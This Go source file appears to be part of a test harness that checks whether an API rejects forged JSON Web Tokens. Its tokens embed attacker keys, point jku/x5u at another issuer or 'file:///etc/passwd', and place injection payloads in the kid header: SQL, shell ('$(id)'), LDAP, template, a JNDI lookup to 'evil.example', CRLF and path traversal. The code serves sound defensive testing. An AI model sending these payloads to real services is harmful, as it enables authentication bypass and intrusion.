package attack

import (
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"math/big"
	"slices"
	"strings"
	"time"
)

// keyAttacks let the token choose the key: RFC 7515 sections 4.1.2 to 4.1.8 and
// 10.4, RFC 8725 section 3.10. Others use keys of the issuer that must not sign
// access tokens.
func keyAttacks(h *harness) {
	alg := h.key.alg
	forger := h.otherKey(alg)
	g := h.good().signedBy(forger, alg)
	jwk := publishedJWK(h.otherIssuer, forger.id)
	const embedded = "The attacker's key in the token itself."
	h.token(rejected, "key/jwk", embedded, g.header("jwk", jwk))
	h.token(rejected, "key/jwk-without-kid", embedded, g.header("jwk", jwk).header("kid", nil))
	h.token(rejected, "key/x5c", embedded, g.header("x5c", []string{h.certificate(forger)}))
	h.token(rejected, "key/x5c-without-kid", embedded,
		g.header("x5c", []string{h.certificate(forger)}).header("kid", nil))

	good, bad := h.issuer.JWKSURL(), h.otherIssuer.JWKSURL()
	for name, url := range sorted(map[string]string{
		"": bad,
		"-userinfo": strings.Replace(bad, "://",
			"://"+strings.TrimPrefix(h.issuer.URL(), "http://")+"@", 1),
		"-fragment": bad + "#" + good, "-query": bad + "?" + good,
		"-localhost": strings.Replace(bad, "127.0.0.1", "localhost", 1),
	}) {
		const remote = "The address of the attacker's key set in the token, for the API to fetch."
		h.token(rejected, "key/jku"+name, remote, g.header("jku", url))
		h.token(rejected, "key/x5u"+name, remote, g.header("x5u", url))
		h.token(rejected, "key/kid-is-a-url"+name, remote, g.header("kid", url))
	}
	h.token(rejected, "key/jku-without-kid",
		"The address of the attacker's key set in the token, for the API to fetch.",
		g.header("jku", bad).header("kid", nil))
	h.token(rejected, "key/jku-file", "The address of a file as that of the key set.",
		g.header("jku", "file:///etc/passwd"))
	h.token(rejected, "key/without-kid", "No kid, and a key that is not the issuer's.",
		g.header("kid", nil))
	for _, name := range []string{"x5t", "x5t#S256"} {
		h.token(rejected, "key/"+strings.ReplaceAll(name, "#", "-")+"-without-kid",
			"A thumbprint (RFC 7515 sections 4.1.7 and 4.1.8) in place of the kid, and a key that is not "+
				"the issuer's.", g.header(name, h.key.id).header("kid", nil))
	}

	for name, kid := range sorted(map[string]string{
		"traversal": "../../../../dev/null", "absolute-path": "/dev/null", "windows-path": `..\..\nul`,
		"SQL": "x' UNION SELECT 'AA'--", "SQL-or": "' OR '1'='1", "command": "|sleep 1",
		"substitution": "$(id)",
		"LDAP":         "*)(uid=*", "template": "{{7*7}}", "JNDI": "${jndi:ldap://evil.example/x}",
		"newline": "x\r\nSet-Cookie: x=y", "NUL": h.key.id + "\x00", "long": strings.Repeat("k", 6000),
		"bidi":  "\u202e" + h.key.id,
		"empty": "",
	}) {
		const injected = "A kid that attacks the code that looks it up, and a signature by an empty secret or " +
			"another key."
		h.token(malformed, "key/kid-"+name, injected, g.header("kid", kid))
		if strings.HasSuffix(name, "path") || name == "traversal" || name == "SQL" || name == "empty" {
			h.token(malformed, "key/kid-"+name+"-HS256", injected, g.header("kid", kid).hmac(nil))
		}
	}
	for name, kid := range sorted(map[string]string{
		"null": "null", "number": "1", "true": "true", "array": "[" + jsonText(h.key.id) + "]",
		"object": "{}",
	}) {
		h.token(malformed, "key/kid-type-"+name,
			"A kid that is not a string (RFC 7515 section 4.1.4), over a good signature.",
			h.good().header("kid", json.RawMessage(kid)))
	}

	const unfit = "A good signature by a published key that must not sign access tokens: "
	encryption, operations := h.unfit["encryption"], h.unfit["operations"]
	h.token(rejected, "key/use-enc", unfit+"for encryption (RFC 7517 section 4.2).",
		h.goodBy(encryption, encryption.alg))
	h.token(rejected, "key/key_ops-encrypt", unfit+"its key_ops lack verify (RFC 7517 section 4.3).",
		h.goodBy(operations, operations.alg))
	contradictory := h.unfit["contradictory"]
	h.token(rejected, "key/use-and-key_ops-disagree",
		unfit+"its use permits it, its key_ops do not (RFC 7517 section 4.3).",
		h.goodBy(contradictory, contradictory.alg))
	for _, alg := range []string{"RS256", "RS384", "RS512", "PS256", "PS384", "PS512"} {
		if !slices.Contains(h.Algorithms, alg) {
			h.token(malformed, "key/without-alg-used-for-"+alg,
				"A good signature by an algorithm that the API does not accept, and a key without alg "+
					"(RFC 8725 section 3.1).",
				h.goodBy(h.unfit["unbound"], alg))
		}
	}
	if h.firstOf("RS256") != nil {
		h.token(rejected, "key/RSA-1024-bits", unfit+"too short (RFC 7518 section 3.3).",
			h.goodBy(h.unfit["weak"], "RS256"))
		h.token(rejected, "key/alg-PS512-used-for-RS256",
			unfit+"for another algorithm (RFC 7517 section 4.4).", h.goodBy(h.unfit["bound"], "RS256"))
	}
	h.token(malformed, "key/symmetric",
		unfit+"symmetric, so that every reader of the key set can sign.",
		h.goodBy(h.unfit["symmetric"], "HS256"))
	unpublished := h.unfit["unpublished"]
	h.token(rejected, "key/unpublished",
		"A good signature by a key of the issuer that it does not publish.",
		h.goodBy(unpublished, unpublished.alg))
}

// certificate returns a self-signed certificate of k, as x5c has it.
func (h *harness) certificate(k *key) string {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "forger"},
		NotBefore: h.issuer.Now().Add(-time.Hour), NotAfter: h.issuer.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, k.public(), k.private)
	if err != nil {
		panic("attack: " + err.Error())
	}
	return base64.StdEncoding.EncodeToString(der)
}
